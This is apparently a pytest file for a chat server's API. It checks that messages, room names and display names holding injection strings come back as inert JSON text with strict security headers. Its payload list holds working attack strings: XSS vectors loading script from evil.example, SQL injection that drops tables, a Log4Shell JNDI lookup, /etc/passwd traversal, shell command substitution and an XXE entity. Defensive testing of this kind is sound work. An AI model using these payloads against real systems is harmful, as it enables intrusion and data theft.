"""Text that is a script, a link or a query somewhere else: here it is text, and no answer can be shown as a page."""

from __future__ import annotations

from typing import Final

import httpx2
import pytest

from tests.server.conversation import done, log_of, say, send
from tests.support.fixtures import MakePerson, MakeRoom
from tests.support.people import http_client
from tests.support.server import ServerProcess

PAYLOADS: Final = r'''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script\x20type="text/javascript">alert(1)</script>
"><script>alert(document.cookie)</script>
'><img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img src="x` `<script>alert(1)</script>"` `>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<img/src=x/onerror=alert&#40;1&#41;>
<svg onload=alert(1)>
<svg><script>alert&lpar;1&rpar;</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a>
<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html;base64,PHNjcmlwdD4="></object>
<embed src=data:image/svg+xml,<svg/onload=alert(1)>>
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<video><source onerror=alert(1)></video>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt&colon;alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
[x](javascript:alert(1))
[x](data:text/html,<script>alert(1)</script>)
![x](x"onerror="alert(1))
javascript:alert(1)
vbscript:msgbox(1)
data:text/html,<script>alert(1)</script>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=//evil.example">
<link rel=stylesheet href=//evil.example/x.css>
<style>@import'//evil.example/x.css';</style>
<div style="background:url(javascript:alert(1))">
<form action=//evil.example><input type=submit>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
\u003cscript\u003ealert(1)\u003c/script\\u003e
%3Cscript%3Ealert(1)%3C/script%3E
{{constructor.constructor('alert(1)')()}}
${alert(1)}
#{7*7}
<%= 7*7 %>
{{7*7}}
'; DROP TABLE messages; --
" OR ""="
1); DELETE FROM users WHERE (1=1
${jndi:ldap://evil.example/x}
../../../../etc/passwd
$(id)`id`;id|id
=cmd|' /C calc'!A0
<!--#exec cmd="id"-->
<!DOCTYPE x [<!ENTITY e SYSTEM "//evil.example/x">]>
'''.strip().splitlines()


def check_no_page(answer: httpx2.Response) -> None:
    """Assert that no browser makes a page of an answer, whatever is in it."""
    media_type = answer.headers["Content-Type"].split(";")[0]
    assert media_type in {"application/json", "application/problem+json"}
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Content-Security-Policy"] == "default-src 'none'; frame-ancestors 'none'"
    assert answer.headers["Cache-Control"] == "no-store"


@pytest.mark.wire("POST /v1/rooms/{room_id}/messages")
async def test_a_payload_is_stored_as_it_is_and_comes_back_as_text(person: MakePerson, make_room: MakeRoom) -> None:
    assert len(PAYLOADS) >= 60
    ada = await person()
    room = await make_room(ada)
    socket = await ada.connect()
    for number, payload in enumerate(PAYLOADS):
        message = await say(ada, room, payload) if number % 2 else await send(socket, room, payload)
        assert message["body"] == payload
    page = await ada.http.get(f"/v1/rooms/{room['id']}/messages?limit=200")
    check_no_page(page)
    assert [item["body"] for item in done(page)["items"]] == PAYLOADS
    assert [event["message"]["body"] for event in await log_of(ada, room, after_seq=1)] == PAYLOADS


async def test_names_hold_payloads_as_text_as_well(person: MakePerson, make_room: MakeRoom) -> None:
    ada = await person()
    room = await make_room(ada, visibility="private")
    path = f"/v1/rooms/{room['id']}"
    for payload in (payload for payload in PAYLOADS if len(payload) <= 64):
        renamed = await ada.http.patch(path, json={"name": payload, "topic": payload})
        assert (done(renamed)["name"], done(renamed)["topic"]) == (payload, payload)
        check_no_page(renamed)
        shown = await ada.http.patch("/v1/users/me", json={"display_name": payload})
        assert done(shown)["display_name"] == payload
        check_no_page(shown)


async def test_no_answer_repeats_what_was_asked_for_and_the_docs_show_nobodys_text(
    server: ServerProcess, person: MakePerson, make_room: MakeRoom
) -> None:
    ada = await person()
    await make_room(ada, name=PAYLOADS[0][:50], visibility="private")
    async with http_client(server) as http:
        for payload in PAYLOADS:
            for answer in (
                await http.get(f"/v1/{payload}".replace("#", "%23").replace("?", "%3F")),
                await http.get("/v1/rooms", params={"cursor": payload, "scope": payload}),
            ):
                check_no_page(answer)
                assert payload not in answer.text
        for path in ("/docs", "/openapi.json"):
            assert "alert(1)" not in (await http.get(path)).text
